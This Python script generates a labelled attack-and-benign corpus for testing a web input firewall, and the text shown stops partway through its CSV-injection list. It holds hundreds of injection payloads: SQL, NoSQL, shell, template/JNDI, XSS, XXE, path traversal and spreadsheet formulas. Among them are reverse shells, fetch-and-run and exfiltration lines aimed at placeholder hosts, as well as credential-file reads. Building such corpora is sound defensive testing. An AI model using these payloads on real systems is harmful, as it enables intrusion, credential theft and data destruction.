#!/usr/bin/python3
"""Independent corpus for fnguard's input_firewall.

Writes, in the current directory:
  attacks.jsonl / attacks.meta.jsonl   one event per line / its class, technique, shape, payload
  benign.jsonl  / benign.meta.jsonl    one event per line / its category, shape, value
Payloads written from scratch for this evaluation (no rule sets or lists copied).
"""
import base64
import json
import random
import sys
from urllib.parse import quote, quote_plus

R = random.Random(7)


# ---------------------------------------------------------------- encodings
def url(s):            # what a browser / client sends: every reserved char escaped
    return quote(s, safe="")


def url2(s):           # double URL encoding
    return quote(quote(s, safe=""), safe="")


def url_min(s):        # attacker-chosen minimal encoding of the key characters only
    out = []
    for ch in s:
        if ch in "'\"<>;|&`$()=/ ":
            out.append("%%%02X" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


def ent_dec(s):        # HTML decimal entities for every char
    return "".join("&#%d;" % ord(c) for c in s)


def altcase(s):
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(s))


# payload record: (class, technique, kind, value)
#   kind "s": string value; "j": JSON value (object) ; "p": (key, value) parameter pair
P = []


def add(cls, tech, v, kind="s"):
    P.append((cls, tech, kind, v))


# ======================================================================= SQL
sql_base = [
    "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "admin'--", "admin' #", "') OR ('a'='a",
    "1 OR 1=1", "1' AND 1=1 AND 'a'='a", "' UNION SELECT username, password FROM users--",
    "' UNION ALL SELECT NULL,NULL,NULL--", "1 UNION SELECT 1,@@version,3", "' ORDER BY 3--",
    "1'; DROP TABLE users;--", "'; EXEC xp_cmdshell('dir');--", "1; WAITFOR DELAY '0:0:5'--",
    "' AND SLEEP(5)--", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
    "' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
    "' AND updatexml(1,concat(0x7e,user()),1)--", "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' OR pg_sleep(5)--", "'||(SELECT pg_sleep(5))||'",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1) OR (1=1", "' OR 'x' LIKE 'x", "' OR true--", "admin')--", "' HAVING 1=1--",
    "-1' UNION SELECT table_name FROM information_schema.tables--",
    "1' AND BENCHMARK(5000000,MD5(1))#", "' OR 1=1 LIMIT 1;#",
    "'; INSERT INTO users(name,role) VALUES('x','admin');--",
    "'; UPDATE users SET role='admin' WHERE name='bob';--", "' OR EXISTS(SELECT * FROM users)--",
    "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1", "1' AND '1'='2",
    "' AND 1=(SELECT COUNT(*) FROM users)--", "x' AND email IS NULL; --",
    "1;SELECT * FROM users", "'; SHUTDOWN --", "' OR username IS NOT NULL--",
    "bob@example.com' OR '1'='1", "99999' UNION SELECT credit_card FROM payments WHERE '1'='1",
    "1 AND SLEEP(3)", "' AND 1=0 UNION SELECT 1,2,3 INTO OUTFILE '/tmp/x'--",
]
for p in sql_base:
    add("sql_injection", "classic", p)
sql_obf = [
    ("comment", "'/**/OR/**/1=1--"), ("mysql_versioned", "'/*!50000UNION*//*!50000SELECT*/ 1,2--"),
    ("case", "' UnIoN SeLeCt 1,2,3--"), ("case", "' oR 1 LiKe 1--"),
    ("whitespace", "'\tOR\t1=1--"), ("whitespace", "'\nOR\n1=1--"), ("whitespace", "'\r\nUNION\r\nSELECT\r\n1--"),
    ("hex_literal", "' OR 0x31=0x31--"), ("char_fn", "' OR CHAR(49)=CHAR(49)--"),
    ("concat", "'||'1'='1"), ("nospace", "1'or'1'='1"), ("nospace", "'or(1)=(1)--"),
    ("comment", "admin'/*"), ("comment", "' UNION/**/SELECT/**/password/**/FROM/**/users--"),
    ("mysql_versioned", "' /*!UNION*/ /*!SELECT*/ password FROM users--"),
    ("nul", "' OR 1=1;\x00"), ("form_plus", "'+OR+1=1--"),
    ("parenthesis", "'or(sleep(5))#"), ("backslash", "\\' OR 1=1-- "),
    ("double_quote", "\" UNION SELECT 1,2--"), ("sci_notation", "1e0UNION SELECT 1"),
    ("mssql_brackets", "';EXEC('SEL'+'ECT 1')--"), ("dollar_quote", "1; SELECT $$x$$--"),
]
for t, p in sql_obf:
    add("sql_injection", t, p)
for p in ["' OR 1=1--", "' UNION SELECT username, password FROM users--", "admin'--",
          "1'; DROP TABLE users;--", "' AND SLEEP(5)--"]:
    add("sql_injection", "url", url(p))
    add("sql_injection", "url_min", url_min(p))
for p in ["' OR '1'='1", "' UNION ALL SELECT NULL,NULL--", "1 OR 1=1"]:
    add("sql_injection", "double_url", url2(p))
for p in ["' OR 1=1--", "' UNION SELECT 1,2--", "x' OR 'a'='a"]:
    add("sql_injection", "html_entity", ent_dec(p))
for p in ["' OR 1=1--", "' UNION SELECT password FROM users--", "'; DROP TABLE users--"]:
    add("sql_injection", "json_unicode", p)
add("sql_injection", "fullwidth_quote", "\uff07 OR 1=1--")
add("sql_injection", "triple_url", quote(url2("' OR 1=1--"), safe=""))

# ===================================================================== NoSQL
nos_json = [
    {"username": {"$ne": None}, "password": {"$ne": None}}, {"$gt": ""}, {"$regex": ".*"},
    {"$where": "sleep(5000)"}, {"$where": "this.password.length > 0"}, {"$or": [{}, {"a": "a"}]},
    {"$exists": True}, {"$nin": ["x"]}, {"$in": ["admin", "root"]}, {"$expr": {"$eq": [1, 1]}},
    {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}},
    {"$regex": "^a", "$options": "i"}, {"$not": {"$eq": "x"}}, {"$gte": 0},
    {"$lt": "zzzz"}, {"$elemMatch": {"role": "admin"}}, {"$where": "function(){return true}"},
    {"$where": "Object.keys(this)[0].match('^.{0}a.*')"},
    {"$lookup": {"from": "users", "localField": "x", "foreignField": "y", "as": "z"}},
    {"email": {"$regex": "@example\\.com$"}, "isAdmin": {"$eq": True}},
    {"$and": [{"a": {"$ne": 1}}]}, {"$accumulator": {"init": "function(){}"}},
    {"token": {"$type": "string"}}, {"password": {"$exists": False}},
    {"$comment": "x", "$where": "1==1"},
]
for o in nos_json:
    add("nosql_injection", "operator_object", o, "j")
nos_text = [
    ("operator_text", '{"$ne": 1}'), ("operator_text", '{"$gt":""}'), ("operator_text", "{'$ne': null}"),
    ("operator_text", '{"$where": "return true"}'), ("operator_text", '{"username":{"$regex":"^adm"}}'),
    ("operator_text", '{ "$nin" : [ "" ] }'), ("operator_text", '{"$or":[{"a":1},{"b":{"$ne":0}}]}'),
    ("where_js", "' || '1'=='1"), ("where_js", "'; return true; var a='"), ("where_js", "a'; sleep(5000); var b='"),
    ("where_js", "1; return true"), ("where_js", "this.password.match(/^a/)"),
    ("where_js", "'; while(true){}; '"), ("where_js", "' && this.password.match(/.*/)//"),
    ("where_js", "admin' || 'a'=='a"), ("where_js", "\"; return db.users.find(); var x=\""),
    ("where_js", "0;var d=new Date(); do{c=new Date();}while(c-d<5000)"),
    ("where_js", "this.isAdmin == true"), ("where_js", "'||this.role=='admin'||'"),
]
for t, p in nos_text:
    add("nosql_injection", t, p)
nos_params = [("user[$ne]", "x"), ("password[$ne]", ""), ("user[$regex]", ".*"), ("user[$gt]", ""),
              ("login[$nin][]", "admin"), ("user[$exists]", "true"), ("age[$gte]", "0"),
              ("q[$where]", "sleep(1000)"), ("filter[$or][0][a]", "1"), ("email[$regex]", "^a.*@"),
              ("id[$in][]", "1")]
for k, v in nos_params:
    add("nosql_injection", "bracket_param", (k, v), "p")
for k, v in [("user[$ne]", "x"), ("password[$gt]", ""), ("name[$regex]", ".*")]:
    add("nosql_injection", "bracket_text", "%s=%s" % (k, v))
    add("nosql_injection", "url", url(k) + "=" + v)
add("nosql_injection", "double_url", url2("user[$ne]") + "=x")
add("nosql_injection", "url", url('{"$ne": null}'))
add("nosql_injection", "double_url", url2('{"$gt": ""}'))
for o in [{"$ne": None}, {"$where": "sleep(100)"}, {"$regex": ".*"}]:
    add("nosql_injection", "json_unicode", o, "j")

# ================================================================== command
cmd_base = [
    "; cat /etc/passwd", "| id", "|| whoami", "&& uname -a", "& ping -c 10 127.0.0.1 &", "`id`",
    "$(whoami)", "; ls -la /", "\nid", "; curl http://evil.example/x.sh | sh",
    "; wget -qO- http://203.0.113.5/s | bash", "| nc -e /bin/sh 203.0.113.5 4444",
    "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "$(curl -s evil.example/$(whoami))",
    "; sleep 10", "| sleep 5", "127.0.0.1; cat /etc/shadow", "127.0.0.1 && cat /etc/hosts",
    "test.jpg; rm -rf /var/task", "x`sleep 5`", "; echo d2hvYW1p | base64 -d | sh",
    "| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", "& dir C:\\",
    "| type C:\\Windows\\win.ini", "; python3 -c 'import os;os.system(\"id\")'",
    "; perl -e 'print `id`'", "; nslookup $(whoami).attacker.example",
    "$(nslookup x.oast.example)", "|| ping -n 5 127.0.0.1", "; echo pwned > /var/www/html/x.txt",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { :;}; echo; /usr/bin/id",
    "| tee /tmp/x", "; chmod +x /tmp/a && /tmp/a", "&& curl -d @/etc/passwd http://evil.example",
    "file.txt;sh -c \"id\"", "; env", "| set", "; whoami", "a;cat</etc/passwd",
    "; aws s3 cp s3://bucket/key - | sh", "; rm -rf /", "\ncurl evil.example|sh\n",
    "$(rm -rf /tmp/*)", "1.1.1.1|nc 203.0.113.9 9001 -e /bin/bash",
    "; socat TCP:203.0.113.5:4444 EXEC:sh", "; openssl s_client -connect evil.example:443",
]
for p in cmd_base:
    add("command_injection", "classic", p)
cmd_obf = [
    ("ifs", "a$(sleep${IFS}5)"), ("ifs", ";cat${IFS}/etc/passwd"), ("ifs", ";cat$IFS$9/etc/passwd"),
    ("brace_expansion", ";{cat,/etc/passwd}"), ("quote_split", ";c'a't /etc/passwd"),
    ("backslash_split", ";c\\at /etc/passwd"), ("glob", ";/bin/c?t /etc/pa??wd"),
    ("glob", ";/???/??t /???/p??s??"), ("quote_split", "; \"w\"h\"o\"a\"m\"i"),
    ("var_slice", ";${PATH:0:1}bin${PATH:0:1}cat /etc/passwd"), ("printf", ";$(printf '\\x69\\x64')"),
    ("ifs", "`echo${IFS}id`"), ("ansi_c", "; X=$'cat\\x20/etc/passwd'&&$X"),
    ("empty_quotes", "; ca''t /etc/passwd"), ("tab", ";\tcat\t/etc/passwd"),
    ("here_string", "; IFS=,;`cat<<<uname,-a`"), ("var_concat", "; a=ca;b=t;$a$b /etc/passwd"),
    ("rev", "; echo 'dwssap/cte/ tac' | rev | sh"), ("newline_crlf", "\r\nid -a"),
    ("case_var", "; ${x}whoami -a"),
]
for t, p in cmd_obf:
    add("command_injection", t, p)
for p in ["; cat /etc/passwd", "| id", "$(whoami)", "&& uname -a", "`id`"]:
    add("command_injection", "url", url(p))
for p in ["; cat /etc/passwd", "\nid", "| nc -e /bin/sh 203.0.113.5 4444"]:
    add("command_injection", "double_url", url2(p))
add("command_injection", "url_newline", "%0Aid")
add("command_injection", "url_newline", "%0acat%20/etc/passwd")
for p in ["; cat /etc/passwd", "$(curl evil.example|sh)"]:
    add("command_injection", "json_unicode", p)

# ===================================================================== code
code_base = [
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% import os %}{{ os.popen('id').read() }}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://203.0.113.5:1099/x}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
    "__import__('os').system('id')", "__import__(\"subprocess\").check_output(\"id\",shell=True)",
    "require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('id')",
    "<?php system($_GET['c']); ?>", "<?= `id` ?>",
    "';eval(String.fromCharCode(97,108,101,114,116,40,49,41));//",
    "\"; exec('import os; os.system(\\\"id\\\")'); \"", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='))",
    "system('id')", "'.system('id').'", "\";system('id');//", "Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"id\").start()", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
    "#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "<%= system(\"id\") %>", "<%= `id` %>", "{php}echo `id`;{/php}", "{system('id')}", "[[${7*7}]]",
    "os.popen('id').read()", "exec(\"import os;os.system('id')\")", "getattr(__import__('os'),'system')('id')",
    "globals()['__builtins__']['__import__']('os')", "Function('return process')()",
    "%{(#cmd='id').(#rt=@java.lang.Runtime@getRuntime().exec(#cmd))}",
    "${@java.lang.Runtime@getRuntime().exec('id')}", "{{range.constructor(\"return global.process\")()}}",
    "${{7*7}}", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "@{var x = System.Diagnostics.Process.Start(\"cmd.exe\");}",
    "';require('fs').readFileSync('/etc/passwd');'", "1;phpinfo();", "${7777+1}",
]
for p in code_base:
    add("code_injection", "classic", p)
code_obf = [
    ("jndi_nested", "${${lower:j}ndi:ldap://evil.example/a}"),
    ("jndi_nested", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/x}"),
    ("jndi_nested", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}"),
    ("jndi_nested", "${${upper:j}${upper:n}di:dns://x.example}"), ("jndi_case", "${jNdI:ldap://x.example/a}"),
    ("jndi_nested", "${j${k8s:k5:-ND}i:ldap://x.example/a}"), ("jndi_nested", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}"),
    ("jndi_hash", "${jndi:ldap://127.0.0.1#evil.example/a}"), ("whitespace", "{{ 7 * 7 }}"),
    ("whitespace", "${ 7*7 }"), ("concat", "eval(\"__imp\"+\"ort__('os').system('id')\")"),
    ("string_escape", "eval(\"\\x5f\\x5fimport\\x5f\\x5f('os').system('id')\")"),
    ("attr_filter", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"),
    ("unicode_escape_js", "require('\\u0063hild_process').exec('id')"),
]
for t, p in code_obf:
    add("code_injection", t, p)
for p in ["{{7*7}}", "${jndi:ldap://evil.example/a}", "__import__('os').system('id')", "<?php system('id'); ?>"]:
    add("code_injection", "url", url(p))
for p in ["${jndi:ldap://evil.example/a}", "{{config.items()}}"]:
    add("code_injection", "double_url", url2(p))
for p in ["${jndi:ldap://evil.example/a}", "{{7*7}}"]:
    add("code_injection", "json_unicode", p)

# ======================================================================= XSS
xss_base = [
    "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"fetch('//evil.example?c='+document.cookie)\">", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\">", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>", "';alert(1);//", "'-alert(1)-'", "\\\";alert(1);//",
    "</script><script>alert(1)</script>", "<marquee onstart=alert(1)>",
    "<form action=\"javascript:alert(1)\"><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
    "<base href=\"javascript:/a/-alert(1)///////\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<img/src/onerror=alert(1)>", "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<x onclick=alert(1)>click",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\" autofocus onfocus=alert(1) x=\"", "<svg onload=alert`1`>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">", "<div onpointerenter=alert(1)>hover</div>",
    "<img src=1 onerror=import('//evil.example/x.js')>", "<script>fetch('https://evil.example/?'+localStorage.token)</script>",
    "<style>*{}</style><img src onerror=alert(1)>", "<table background=\"javascript:alert(1)\">",
    "\"><svg/onload=confirm(1)>", "<audio src=x onerror=alert(1)>",
]
for p in xss_base:
    add("xss", "classic", p)
xss_obf = [
    ("entity_tab", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("entity_scheme", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>"),
    ("case", "JaVaScRiPt:alert(1)"), ("entity_js", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("entity_js", "<svg><script>alert&#40;1&#41;</script>"), ("nested_tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("newline", "<img src=x onerror\n=alert(1)>"), ("tab", "<img\tsrc=x\tonerror=alert(1)>"),
    ("js_unicode", "<img src=x onerror=\\u0061lert(1)>"), ("tab_scheme", "<a href=\"java\tscript:alert(1)\">x</a>"),
    ("newline_scheme", "<a href=\"java\nscript:alert(1)\">x</a>"), ("slash_sep", "<svg/onload=alert(1)//"),
    ("unclosed", "<img src=x onerror=alert(1)//"), ("entity_hex_pad", "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>"),
    ("leading_space_scheme", " javascript:alert(1)"), ("upper_tag", "<IMG SRC=x ONERROR=alert(1)>"),
    ("null_byte", "<scri\x00pt>alert(1)</script>"), ("html_entity_all", "&lt;script&gt;alert(1)&lt;/script&gt;"),
]
for t, p in xss_obf:
    add("xss", t, p)
for p in ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
          "javascript:alert(1)"]:
    add("xss", "url", url(p))
for p in ["<script>alert(1)</script>", "<svg/onload=alert(1)>"]:
    add("xss", "double_url", url2(p))
for p in ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"]:
    add("xss", "json_unicode", p)
add("xss", "fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e")

# ======================================================================= XXE
xxe_targets = ["file:///etc/passwd", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
               "file:///proc/self/environ", "php://filter/convert.base64-encode/resource=index.php",
               "expect://id", "file:///c:/windows/win.ini", "http://10.0.0.5:8080/admin", "gopher://127.0.0.1:6379/_INFO",
               "jar:http://evil.example/x.jar!/a", "netdoc:///etc/hosts", "file:///var/task/.env"]
xxe_tpl = [
    ("classic", '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "{t}">]><foo>&xxe;</foo>'),
    ("element_any", '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [\n  <!ELEMENT foo ANY >\n  <!ENTITY xxe SYSTEM "{t}" >]>\n<foo>&xxe;</foo>'),
    ("param_entity", '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "{t}"> %xxe;]><foo/>'),
    ("single_quotes", "<!DOCTYPE r[<!ENTITY x SYSTEM '{t}'>]><r>&x;</r>"),
    ("public", '<!DOCTYPE foo [<!ENTITY xxe PUBLIC "-//A//B" "{t}">]><foo>&xxe;</foo>'),
    ("whitespace", '<!DOCTYPE   foo  [\t<!ENTITY\n xxe\tSYSTEM\r\n"{t}"\t>\n]>\n<foo>&xxe;</foo>'),
]
n = 0
for t_i, (tech, tpl) in enumerate(xxe_tpl):
    for k, t in enumerate(xxe_targets):
        if (k + t_i) % 3 != 0:       # two thirds of the grid, varied but not huge
            add("xxe", tech, tpl.replace("{t}", t))
xxe_more = [
    ("external_dtd", '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil.example/x.dtd"><data>1</data>'),
    ("external_dtd_public", '<!DOCTYPE foo PUBLIC "-//X//Y" "http://evil.example/x.dtd"><foo/>'),
    ("billion_laughs", '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>'),
    ("xinclude", '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'),
    ("svg_xxe", '<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>'),
    ("oob_param", '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/ext.dtd">%remote;%int;%trick;]>'),
    ("dtd_exfil", '<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://evil.example/?x=%file;\'>">%eval;%exfil;'),
    ("soap", '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><login><user>&x;</user></login></soap:Body></soap:Envelope>'),
    ("utf7", '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo+AFsAPAAh-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACIAPgBd-+AD4-+ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4-'),
    ("internal_entity_use", '<!DOCTYPE a [<!ENTITY b "<script>x</script>">]><a>&b;</a>'),
    ("xinclude_http", '<data xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://169.254.169.254/latest/meta-data/"/></data>'),
    ("local_dtd_repurpose", '<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\'>%local_dtd;]><message>x</message>'),
    ("xslt_doc", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/></xsl:template></xsl:stylesheet>'),
    ("xlsx_part", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;]><workbook/>'),
]
for t, p in xxe_more:
    add("xxe", t, p)
base_x = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'
add("xxe", "url", url(base_x))
add("xxe", "url", url('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/a.dtd">%x;]>'))
add("xxe", "double_url", url2(base_x))
add("xxe", "json_unicode", base_x)
add("xxe", "json_unicode", '<!DOCTYPE d SYSTEM "http://evil.example/d.dtd"><d/>')
add("xxe", "base64_in_json", base64.b64encode(base_x.encode()).decode())  # app that base64-decodes a field

# ======================================================================= LFI
lfi = [
    ("classic", "../../../../etc/passwd"), ("classic", "..\\..\\..\\..\\windows\\win.ini"),
    ("strip_bypass", "....//....//....//etc/passwd"), ("url", "..%2f..%2f..%2fetc%2fpasswd"),
    ("url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"), ("double_url", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong_utf8", "..%c0%af..%c0%afetc%c0%afpasswd"), ("fullwidth_slash_url", "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("absolute", "/etc/passwd"), ("absolute", "/etc/shadow"), ("absolute", "/proc/self/environ"),
    ("absolute", "/proc/self/cmdline"), ("wrapper", "file:///etc/passwd"),
    ("wrapper", "php://filter/convert.base64-encode/resource=index.php"), ("wrapper", "php://input"),
    ("wrapper", "expect://id"), ("wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
    ("wrapper", "zip://uploads/a.jpg%23shell.php"), ("wrapper", "phar://uploads/x.phar/test.txt"),
    ("nul_url", "../../../../etc/passwd%00.png"), ("nul_raw", "../../../../etc/passwd\x00.jpg"),
    ("tomcat_semicolon", "..;/..;/..;/WEB-INF/web.xml"), ("classic", "../../../../../../var/task/lambda_function.py"),
    ("classic", "../../.aws/credentials"), ("home", "~/.aws/credentials"), ("home", "~/.ssh/id_rsa"),
    ("absolute", "/root/.ssh/id_rsa"), ("windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows", "C:/Windows/win.ini"), ("absolute", "/var/log/apache2/access.log"),
    ("strip_bypass", "....\\/....\\/etc/passwd"), ("strip_bypass", "..././..././etc/passwd"),
    ("double_slash", "..//..//..//etc/passwd"), ("redundant", "/etc//passwd"), ("redundant", "/./etc/./passwd"),
    ("url_letter", "/%65tc/passwd"), ("url", "%2fetc%2fpasswd"), ("url_backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("double_url", "..%255c..%255c..%255cwindows%255cwin.ini"), ("mixed_url", "/..%2f..%2f..%2fetc/passwd"),
    ("triple_url", "%25252e%25252e%25252f%25252e%25252e%25252fetc%25252fpasswd"),
    ("iis_u", "..%u2215..%u2215etc%u2215passwd"), ("overlong_backslash", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("absolute", "/proc/self/fd/0"), ("absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("absolute", "/home/ec2-user/.bash_history"), ("absolute", "/etc/group"), ("wrapper", "file:///c:/windows/win.ini"),
    ("windows", "..\\..\\..\\boot.ini"), ("prefix_dir", "images/../../../../etc/passwd"),
    ("prefix_dir", "/var/www/html/../../../etc/passwd"), ("deep", "../" * 12 + "etc/passwd"),
    ("absolute", "/proc/self/maps"), ("absolute", "/proc/1/environ"), ("absolute", "/etc/hosts"),
    ("wrapper", "php://filter/read=string.rot13/resource=config.php"), ("wrapper_case", "PHP://filter/resource=/etc/passwd"),
    ("wrapper_case", "FiLe:///etc/passwd"), ("windows_unc", "\\\\evil.example\\share\\x"),
    ("single_dotdot_abs", "../etc/passwd"), ("absolute_url", "%2Fproc%2Fself%2Fenviron"),
    ("json_unicode", "../../../../etc/passwd"), ("json_unicode", "/etc/passwd"),
    ("fullwidth", "\uff0e\uff0e/\uff0e\uff0e/etc/passwd"), ("windows", "C:\\inetpub\\wwwroot\\web.config"),
    ("absolute", "/var/task/index.js"), ("classic", "../../../opt/python/settings.py"),
]
for t, p in lfi:
    add("local_file_inclusion", t, p)

# ======================================================================= CSV
csv = [
    ("dde", "=cmd|' /C calc'!A0"), ("hyperlink", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
    ("at_dde", "@SUM(1+1)*cmd|' /C calc'!A0"), ("plus_dde", "+cmd|' /C notepad'!A0"),
    ("minus_dde", "-2+3+cmd|' /C calc'!A0"), ("arith", "=1+1"),
    ("webservice", "=WEBSERVICE(\"http://evil.example/?d=\"&A2)"),
    ("importxml", "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")"),
    ("image", "=IMAGE(\"http://evil.example/p.png\")"), ("dde_fn", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    ("msexcel", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"),
    ("tab_prefix", "\t=1+1"), ("cr_prefix", "\r=cmd|' /C calc'!A0"), ("space_prefix", " =SUM(A1:A9)"),
    ("importdata", "=IMPORTDATA(\"http://evil.example/x.csv\")"),
    ("importrange", "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/abc\",\"A1:B2\")"),
    ("importfeed", "=IMPORTFEED(\"http://evil.example/feed\")"), ("indirect", "=INDIRECT(\"A\"&1)"),
    ("at_fn", "@SUM(A1:A10)"), ("plus_fn", "+SUM(1,2)"), ("minus_fn", "-SUM(1,2)"),
    ("concat", "=CONCATENATE(A1,B1)"), ("dde_ps", "=cmd|'/c powershell IEX(wget 0r.pe/p)'!A0"),
    ("rundll", "=rundll32|'URL.dll,OpenURL calc.exe'!A"), ("arith", "=2*3"), ("arith", "=A1*2"),
    ("case", "=hyperlink(\"http://evil.example\",\"x\")"), ("case", "=HyPeRlInK(\"http://evil.example\")"),
    ("plus_eq", "=+cmd|' /C calc'!A0"), ("whitespace", "=  1+1"), ("whitespace", "=\tSUM(1,2)"),
    ("sum_dde", "=SUM(1+1)*cmd|' /C calc'!A0"), ("fn", "=LOWER(A1)"), ("semicolon_args", "=HYPERLINK(\"http://evil.example\";\"y\")"),
    ("quote_prefix", "\"=HYPERLINK(\"\"http://evil.example\"\")\""), ("quote_prefix", "'=1+2"),
    ("char_fn", "=CHAR(61)&\"cmd|' /C calc'!A0\""), ("minus_arith", "-1+1"), ("plus_arith", "+1+2*3"),
    ("at_hyperlink", "@HYPERLINK(\"http://evil.example\")"), ("google_query", "=QUERY(A1:B9,\"select A\")"),
